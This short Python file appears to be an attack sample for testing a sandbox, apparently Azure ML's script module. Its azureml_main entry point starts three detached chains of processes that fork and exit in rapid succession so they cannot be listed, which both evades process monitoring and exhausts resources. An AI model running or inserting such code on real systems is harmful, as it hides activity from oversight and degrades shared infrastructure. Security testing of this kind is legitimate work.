"""Leaves processes each of which starts another one and ends, faster than a list of them can be read."""

import os
import time

from attack import attack, detached


def run():
    for _ in range(20000):
        if os.fork():
            os._exit(0)
        time.sleep(0.0005)


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    for _ in range(3):
        detached(run)
    return ""
